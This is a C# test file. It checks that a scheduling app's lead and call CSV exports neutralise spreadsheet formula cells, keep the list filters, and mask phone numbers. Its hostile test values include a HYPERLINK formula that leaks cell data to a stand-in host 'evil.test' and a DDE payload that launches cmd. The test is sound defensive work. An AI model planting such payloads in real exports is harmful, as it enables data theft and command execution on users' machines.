using System.Net;
using System.Net.Http.Json;
using AiScheduler.Domain.Conversation;
using AiScheduler.Functions.Calls;
using AiScheduler.Functions.Leads;
using AiScheduler.Functions.Store;
using AiScheduler.Functions.Tests.Infrastructure;
using AiScheduler.Testing;
using CsvHelper;

namespace AiScheduler.Functions.Tests.Leads;

public sealed class SqliteCsvExportTests(PostgresFixture postgres) : CsvExportTests(StoreProvider.Sqlite, postgres);

public sealed class PostgresCsvExportTests(PostgresFixture postgres) : CsvExportTests(StoreProvider.Postgres, postgres);

/// <summary>
/// <c>GET /api/leads/export</c> and <c>GET /api/calls/export</c>: CSV with the list endpoints' filters, every cell a
/// spreadsheet would read as a formula (leading <c>=</c>, <c>+</c>, <c>-</c>, <c>@</c>, tab or CR) prefixed with a quote.
/// </summary>
public abstract class CsvExportTests(StoreProvider provider, PostgresFixture postgres)
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    // Tab and CR cannot lead a stored value (the lead validator trims), so the API's hostile values start with the other
    // four; tests/Domain.Tests/Exports/CsvCellTests.cs covers all six on the cell rule itself.
    private static readonly string[] Hostile =
    [
        "=HYPERLINK(\"http://evil.test/?\"&A1,\"Click\")", "+SUM(1,2)", "-2+3", "@cmd|' /C calc'!A0", "\t=1+1", "\r\n-1",
    ];

    /// <summary>What the export's cell holds for each hostile value, once stored (trimmed) and neutralised.</summary>
    private static readonly string[] Expected =
    [
        "'=HYPERLINK(\"http://evil.test/?\"&A1,\"Click\")", "'+SUM(1,2)", "'-2+3", "'@cmd|' /C calc'!A0", "'=1+1", "'-1",
    ];

    [Fact]
    public async Task The_leads_export_neutralises_formula_cells_and_keeps_the_list_filters()
    {
        await using var app = await TestApp.StartAsync(provider, postgres, cancellationToken: Ct);
        var phones = new[] { "+12125550101", "+12125550102", "+12125550103", "+12125550104", "+12125550105", "+12125550106" };
        for (var i = 0; i < Hostile.Length; i++)
        {
            using var created = await app.Client.PostAsJsonAsync("/api/leads",
                new { name = "Lead " + i, phone = phones[i], company = Hostile[i], notes = "line one\nline two, \"quoted\"" }, Ct);
            Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        }

        using (var other = await app.Client.PostAsJsonAsync("/api/leads", new { name = "Not me", phone = "+33612345678", status = "not-interested" }, Ct))
        {
            other.EnsureSuccessStatusCode();
        }

        using var response = await app.Client.GetAsync("/api/leads/export?status=new", HttpCompletionOption.ResponseHeadersRead, Ct);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType!.MediaType);
        Assert.Contains("attachment", response.Content.Headers.ContentDisposition!.DispositionType, StringComparison.Ordinal);
        var rows = await ReadAsync(response);
        Assert.Equal(Hostile.Length, rows.Count);
        Assert.DoesNotContain(rows, row => row["name"] == "Not me");
        foreach (var i in Enumerable.Range(0, Hostile.Length))
        {
            var row = rows.Single(r => r["name"] == "Lead " + i);
            Assert.Equal(Expected[i], row["company"]);
            Assert.Equal("'" + phones[i], row["phone"]);
            Assert.Equal("line one\nline two, \"quoted\"", row["notes"]);
        }

        using var bad = await app.Client.GetAsync("/api/leads/export?status=vip", Ct);
        Assert.Equal(HttpStatusCode.BadRequest, bad.StatusCode);
    }

    [Fact]
    public async Task The_calls_export_neutralises_formula_cells_and_keeps_the_list_filters()
    {
        await using var app = await TestApp.StartAsync(provider, postgres, cancellationToken: Ct);
        using var created = await app.Client.PostAsJsonAsync("/api/leads", new { name = Hostile[0], phone = "+12125550101" }, Ct);
        var lead = (await created.Content.ReadFromJsonAsync<Lead>(Ct))!;
        var sessions = app.Services.GetRequiredService<CallSessionStore>();
        var context = new CallContext(Hostile[0], null, null, "Alex", "Northwind", "a demo", "en-US", "America/New_York", app.Clock.GetUtcNow(), false);
        await sessions.RegisterAsync(new NewCallSession("call-hostile", Workspaces.DefaultId, lead.Id, "+12125550101", context), Ct);
        await sessions.RegisterAsync(new NewCallSession("call-other", Workspaces.DefaultId, null, "+33612345678",
            context with { LeadName = "Other", Language = "fr-FR" }), Ct);

        using var response = await app.Client.GetAsync($"/api/calls/export?leadId={lead.Id}", HttpCompletionOption.ResponseHeadersRead, Ct);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType!.MediaType);
        var row = Assert.Single(await ReadAsync(response));
        Assert.Equal("call-hostile", row["id"]);
        Assert.Equal(Expected[0], row["leadName"]);
        Assert.Equal(lead.Id.ToString("D"), row["leadId"]);
        Assert.Equal("en-US", row["language"]);
        // The list's masking holds in the export too.
        Assert.DoesNotContain("5550101", row["phone"], StringComparison.Ordinal);

        using var bad = await app.Client.GetAsync("/api/calls/export?outcome=nope", Ct);
        Assert.Equal(HttpStatusCode.BadRequest, bad.StatusCode);
    }

    private static async Task<List<Dictionary<string, string>>> ReadAsync(HttpResponseMessage response)
    {
        await using var stream = await response.Content.ReadAsStreamAsync(Ct);
        using var text = new StreamReader(stream);
        await using var reader = CsvReader.Create(text, CsvReaderOptions.Default with { HasHeader = true, AllowLineBreaksInQuotes = true });
        await reader.ReadHeaderAsync(Ct);
        var header = reader.Headers;
        var rows = new List<Dictionary<string, string>>();
        while (await reader.ReadAsync(Ct))
        {
            rows.Add(header.Select((name, i) => (name, value: i < reader.FieldCount ? reader.GetString(i) : ""))
                .ToDictionary(c => c.name, c => c.value, StringComparer.Ordinal));
        }

        return rows;
    }
}
